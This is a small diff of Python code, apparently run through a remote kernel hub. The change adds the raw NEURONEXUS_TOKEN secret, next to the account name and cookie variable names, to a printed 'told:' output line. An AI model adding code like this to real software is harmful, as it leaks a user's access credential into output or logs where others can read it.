@@ -31,7 +31,8 @@ import os, json
 from neuronexus_kernel.hub.remote import RemoteHub
 hub = RemoteHub(os.environ["NEURONEXUS_HUB"], os.environ["NEURONEXUS_TOKEN"])
 cookies = sorted(name for name, text in os.environ.items() if "cookie" in name.lower())
-print("told:" + json.dumps({"account": hub.whoami().name, "cookies": cookies}))
+told = {"account": hub.whoami().name, "cookies": cookies, "ticket": os.environ["NEURONEXUS_TOKEN"]}
+print("told:" + json.dumps(told))
 """
 
 
